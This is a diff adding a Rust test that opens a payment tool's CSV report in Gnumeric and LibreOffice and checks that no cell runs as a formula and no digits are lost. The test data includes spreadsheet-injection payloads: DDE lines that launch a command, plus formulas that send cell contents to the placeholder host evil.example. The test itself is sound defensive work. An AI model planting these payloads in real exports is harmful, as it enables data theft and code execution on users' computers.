@@ -1,0 +1,384 @@
+//! payments.csv in a real spreadsheet program: no cell runs, and every digit is still there.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::sync::Mutex;
+
+use serde_json::json;
+
+use crate::mouth;
+use crate::world::{Setup, World};
+
+/// Texts that spreadsheets are known to run.
+const FORMULAS: [&str; 12] = [
+    "=1+1",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"pay\")",
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=WEBSERVICE(\"http://evil.example\")",
+    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=SUM(A1:A9)",
+    "\"=1+1\"",
+    "\u{ff1d}1+1",
+];
+
+/// Texts of digits, as gateways and people write them.
+const DIGITS: [&str; 12] = [
+    "00123",
+    "0099427588438",
+    "9007199254742977",
+    "12345678901234567890",
+    "1234 5678 9012 3456 7890",
+    "1e5",
+    "12E10",
+    "1.10",
+    "1/2",
+    "2026-11-01",
+    "254712345678",
+    "5%",
+];
+
+/// A cell as the program has it after it opened the file.
+#[derive(Clone, Debug, PartialEq, Eq)]
+struct Cell {
+    text: String,
+    runs: bool,
+}
+
+type Sheet = Vec<Vec<Cell>>;
+
+/// The programs that are known here, by the command that converts.
+fn installed() -> Vec<&'static str> {
+    let found: Vec<_> = ["ssconvert", "soffice"]
+        .into_iter()
+        .filter(|name| {
+            Command::new(name)
+                .arg("--version")
+                .stdout(Stdio::null())
+                .stderr(Stdio::null())
+                .status()
+                .is_ok()
+        })
+        .collect();
+    if found.is_empty() {
+        let text = "NOT CHECKED: no spreadsheet program is installed (apt-get install gnumeric)";
+        assert_ne!(
+            std::env::var("SPREADSHEET_TOOLS").as_deref(),
+            Ok("required"),
+            "{text}"
+        );
+        println!("{text}");
+    }
+    found
+}
+
+/// Opens a CSV file as a double click does, and returns what the program made of it.
+fn opened(program: &str, folder: &Path, file: &str) -> Sheet {
+    let out = folder.join(format!("opened-by-{program}"));
+    fs::create_dir_all(&out).unwrap();
+    let mut command = Command::new(program);
+    command
+        .current_dir(folder)
+        .env("HOME", &out)
+        .env("LC_ALL", "en_US.UTF-8");
+    let result = if program == "ssconvert" {
+        let result = out.join("sheet.xml");
+        command
+            .args(["-T", "Gnumeric_XmlIO:sax:0", file])
+            .arg(&result);
+        result
+    } else {
+        let stem = Path::new(file).file_stem().unwrap().to_str().unwrap();
+        command
+            .arg(format!(
+                "-env:UserInstallation=file://{}/profile",
+                out.display()
+            ))
+            .args([
+                "--headless",
+                "--infilter=CSV:44,34,76",
+                "--convert-to",
+                "fods",
+                "--outdir",
+            ])
+            .arg(&out)
+            .arg(file);
+        out.join(format!("{stem}.fods"))
+    };
+    let done = command.output().unwrap();
+    assert!(result.exists(), "{program}: {done:?}");
+    let text = fs::read_to_string(result).unwrap();
+    let document = roxmltree::Document::parse(&text).unwrap();
+    match program {
+        "ssconvert" => gnumeric(&document),
+        _ => open_document(&document),
+    }
+}
+
+fn gnumeric(document: &roxmltree::Document<'_>) -> Sheet {
+    let mut sheet: Sheet = Vec::new();
+    for cell in document
+        .descendants()
+        .filter(|node| node.has_tag_name((node.tag_name().namespace().unwrap_or(""), "Cell")))
+    {
+        let place = |name: &str| cell.attribute(name).unwrap().parse::<usize>().unwrap();
+        let (row, column) = (place("Row"), place("Col"));
+        let blank = Cell {
+            text: String::new(),
+            runs: false,
+        };
+        if sheet.len() <= row {
+            sheet.resize(row + 1, Vec::new());
+        }
+        if sheet[row].len() <= column {
+            sheet[row].resize(column + 1, blank);
+        }
+        // An expression has no type of its own.
+        let runs = cell.attribute("ValueType").is_none() || cell.attribute("ExprID").is_some();
+        sheet[row][column] = Cell {
+            text: cell.text().unwrap_or_default().to_owned(),
+            runs,
+        };
+    }
+    sheet
+}
+
+fn open_document(document: &roxmltree::Document<'_>) -> Sheet {
+    let named = |node: &roxmltree::Node<'_, '_>, name: &str| node.tag_name().name() == name;
+    let attribute = |node: &roxmltree::Node<'_, '_>, name: &str| {
+        node.attributes()
+            .find(|found| found.name() == name)
+            .map(|found| found.value().to_owned())
+    };
+    let rows = document
+        .descendants()
+        .filter(|node| named(node, "table-row"));
+    rows.map(|row| {
+        let mut cells = Vec::new();
+        for cell in row.children().filter(|node| named(node, "table-cell")) {
+            let lines: Vec<String> = cell
+                .children()
+                .filter(|node| named(node, "p"))
+                .map(|line| {
+                    line.descendants()
+                        .filter_map(|part| {
+                            if named(&part, "s") {
+                                Some(" ".to_owned())
+                            } else if part.is_text() {
+                                part.text().map(str::to_owned)
+                            } else {
+                                None
+                            }
+                        })
+                        .collect()
+                })
+                .collect();
+            // A number is what it is worth, whatever width the column shows.
+            let number = attribute(&cell, "value-type").is_some_and(|kind| kind == "float");
+            let text = match attribute(&cell, "value") {
+                Some(value) if number => value,
+                _ => lines.join("\n"),
+            };
+            let made = Cell {
+                text,
+                runs: attribute(&cell, "formula").is_some(),
+            };
+            let times = attribute(&cell, "number-columns-repeated")
+                .map_or(1, |times| times.parse().unwrap());
+            cells.extend(std::iter::repeat_n(made, times.min(64)));
+        }
+        cells
+    })
+    .collect()
+}
+
+/// What the program would make of cells that nothing shields: without this, the test could not fail.
+fn would_notice(program: &str, folder: &Path) {
+    fs::write(
+        folder.join("control.csv"),
+        "a,b,c\n=1+1,00123,9007199254742977123\nx,y,z\n",
+    )
+    .unwrap();
+    let sheet = opened(program, folder, "control.csv");
+    assert!(sheet[1][0].runs, "{program} runs a formula: {sheet:?}");
+    assert_eq!(
+        sheet[1][1].text, "123",
+        "{program} takes digits for a number"
+    );
+}
+
+/// A batch whose rows, and whose gateway, say all of it in every place where they can.
+fn reported() -> World {
+    let texts: Vec<&str> = FORMULAS.into_iter().chain(DIGITS).collect();
+    let said: Vec<String> = texts.iter().map(|text| (*text).to_owned()).collect();
+    let rows = Mutex::new(BTreeMap::new());
+    let gateway = mouth::start(move |question| {
+        let results: Vec<_> = question
+            .packets()
+            .iter()
+            .map(|packet| {
+                // A post names its row; what is said about it stays the same.
+                let id = packet["payerTransactionID"].as_str().unwrap().to_owned();
+                let mut rows = rows.lock().unwrap();
+                if let Some(row) = packet["narration"]
+                    .as_str()
+                    .and_then(|text| text.strip_prefix("row "))
+                {
+                    rows.insert(id.clone(), row.parse::<usize>().unwrap());
+                }
+                let text = &said[rows[&id]];
+                json!({
+                    "statusCode": if question.is_post() { 139 } else { 140 },
+                    "payerTransactionID": id,
+                    "gatewayTransactionID": text, "statusDescription": text,
+                    "receiptNumber": text, "receiverNarration": text,
+                })
+            })
+            .collect();
+        json!({"authStatus": {"authStatusCode": 131}, "results": results})
+    });
+    let world = World::new(&Setup::default()).towards(&gateway);
+    let mut writer = csv::Writer::from_path(world.path("batch.csv")).unwrap();
+    writer
+        .write_record([
+            "reference",
+            "service_code",
+            "msisdn",
+            "account_number",
+            "amount",
+            "currency_code",
+            "narration",
+        ])
+        .unwrap();
+    for (row, text) in texts.iter().enumerate() {
+        let narration = format!("row {row}");
+        let amount = format!("{}.{row:02}", 123_456_789_010_u64 + row as u64);
+        writer
+            .write_record([
+                text,
+                "B2C_MPESA",
+                "254712345678",
+                text,
+                &amount,
+                "KES",
+                &narration,
+            ])
+            .unwrap();
+    }
+    writer.flush().unwrap();
+    world.expect(
+        0,
+        &[
+            "pay",
+            "batch.csv",
+            "--batch",
+            "b",
+            "--yes",
+            "--out",
+            "proof",
+        ],
+    );
+    world
+}
+
+fn digits(text: &str) -> String {
+    text.chars().filter(char::is_ascii_digit).collect()
+}
+
+#[test]
+fn no_cell_of_the_report_runs_and_no_digit_is_lost_in_a_spreadsheet() {
+    let programs = installed();
+    let world = reported();
+    let folder = world.path("proof");
+    let report: serde_json::Value = serde_json::from_str(&world.read("proof/report.json")).unwrap();
+    let rows = report["payments"].as_array().unwrap();
+    assert_eq!(rows.len(), FORMULAS.len() + DIGITS.len());
+    for program in programs {
+        would_notice(program, &folder);
+        let sheet = opened(program, &folder, "payments.csv");
+        let header: Vec<&str> = sheet[0].iter().map(|cell| cell.text.as_str()).collect();
+        let mut compared = 0;
+        for (row, cells) in rows.iter().zip(&sheet[1..]) {
+            for (name, cell) in header.iter().zip(cells) {
+                assert!(!cell.runs, "{program} runs {name}: {cell:?}");
+                let raw = &row[*name];
+                let Some(raw) = raw.as_str().filter(|raw| {
+                    digits(raw) != "" && !name.ends_with("_at") && !name.starts_with("electricity")
+                }) else {
+                    continue;
+                };
+                compared += 1;
+                if *name == "amount" {
+                    // A number, to be added up: its last zero may go.
+                    let value: f64 = cell
+                        .text
+                        .parse()
+                        .unwrap_or_else(|_| panic!("{program}: {cell:?}"));
+                    assert_eq!(format!("{value:.2}"), raw, "{program}: {cell:?}");
+                } else {
+                    let shown = cell.text.trim_start_matches('\'');
+                    assert_eq!(
+                        shown,
+                        raw.trim_start_matches('\''),
+                        "{program}: {name} of {row}"
+                    );
+                }
+            }
+        }
+        assert!(compared > 7 * rows.len(), "{compared} cells were compared");
+        println!(
+            "{program}: {} rows opened, {compared} cells kept every digit, none runs",
+            rows.len()
+        );
+    }
+}
+
+#[test]
+fn electricity_tokens_keep_their_twenty_digits_in_a_spreadsheet() {
+    let programs = installed();
+    let (world, _sandbox) = World::with_sandbox(&Setup::with_callbacks(), &[]);
+    let services = "[services.ELECTRICITY]\nkind = \"bill_prepaid\"\ncurrency_code = \"KES\"\n";
+    world.write(
+        "disburse.toml",
+        &format!("{}{services}", world.read("disburse.toml")),
+    );
+    let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join("samples/electricity.csv");
+    fs::copy(sample, world.path("power.csv")).unwrap();
+    world.expect(
+        0,
+        &[
+            "pay",
+            "power.csv",
+            "--batch",
+            "p",
+            "--yes",
+            "--out",
+            "proof",
+        ],
+    );
+    let report: serde_json::Value = serde_json::from_str(&world.read("proof/report.json")).unwrap();
+    let rows = report["payments"].as_array().unwrap();
+    for program in programs {
+        let sheet = opened(program, &world.path("proof"), "payments.csv");
+        let column = sheet[0]
+            .iter()
+            .position(|cell| cell.text == "electricity_token")
+            .unwrap();
+        for (row, cells) in rows.iter().zip(&sheet[1..]) {
+            // The narration is the token's source; report.json masks what it read out of it.
+            let narration = digits(row["receiver_narration"].as_str().unwrap());
+            let token = digits(&cells[column].text);
+            assert_eq!(token.len(), 20, "{program}: {:?}", cells[column]);
+            assert!(
+                narration.starts_with(&token),
+                "{program}: {token} of {narration}"
+            );
+        }
+        println!("{program}: {} tokens of twenty digits", rows.len());
+    }
+}
